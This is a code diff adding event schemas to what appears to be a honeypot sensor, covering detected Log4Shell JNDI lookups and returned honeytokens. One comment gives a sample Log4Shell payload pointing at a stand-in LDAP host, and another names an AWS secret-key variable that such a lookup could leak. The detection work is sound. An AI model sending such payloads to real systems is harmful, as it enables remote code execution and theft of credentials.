@@ -77,10 +77,45 @@ export const coreEvents = {
   artifact: Artifact.extend({ name: Evidence.optional(), how: z.string(), url: Evidence.optional() }),
   /** Something an attacker pointed at: a URL to fetch, a host to dial, a look-up. Never followed. */
   indicator: z.object({ kind: z.enum(['url', 'host', 'address', 'email', 'wallet', 'key']), value: Evidence, how: z.string() }),
+  /** A JNDI lookup (Log4Shell) found in what an attacker sent, over whatever protocol and in whatever disguise. Never made. */
+  'jndi.lookup': z.object({
+    /** Which part of the input: `username`, `header X-Api-Version`, `body`. */
+    where: z.string(),
+    raw: Evidence,
+    /** Without its disguises: `${jndi:ldap://x.example:1389/a}`. */
+    resolved: Evidence,
+    scheme: z.string(),
+    host: Evidence,
+    port: z.number().optional(),
+    path: Evidence,
+    /** What the target would have been made to run, where its path says so. */
+    command: Evidence.optional(),
+    /** Values of the machine that the lookup would have told: `env:AWS_SECRET_ACCESS_KEY`. */
+    asksFor: z.array(z.string()),
+  }),
   /** A client's fingerprint, e.g. `hassh`, `ja4`, `ja4h`. */
   fingerprint: z.object({ kind: z.string(), value: z.string(), raw: z.string().optional() }),
   /** A bound of the sensor ended or refused something. */
   limit: z.object({ limit: z.string(), allowed: z.number().optional(), saw: z.number().optional() }),
+  /** A secret that a source was shown has come back, from it or from somebody else; the envelope says from whom. */
+  'honeytoken.returned': z.object({
+    kind: z.string(),
+    /** What it opens: a user, a service. */
+    name: z.string(),
+    /** Persona or lure that it belongs to. */
+    owner: z.string(),
+    /** Where it was read: a path of the host, a part of a lure. */
+    place: z.string(),
+    value: z.string(),
+    /** Address that it was shown to, and when, UTC milliseconds. */
+    mintedFor: z.string(),
+    mintedAt: z.number(),
+    /** `login`, `command`, `request`, or the type of the event. */
+    how: z.string(),
+    /** Path of the field in the event `seenIn`. */
+    field: z.string(),
+    seenIn: z.string(),
+  }),
   'lure.fault': z.object({ message: z.string(), stack: z.string().optional(), lastBytes: Evidence.optional() }),
   /** A datagram that was answered or withheld, counted rather than listed while a flood lasts. */
   datagram: z.object({ request: Evidence, requestBytes: z.number(), answerBytes: z.number(), withheld: z.string().optional() }),
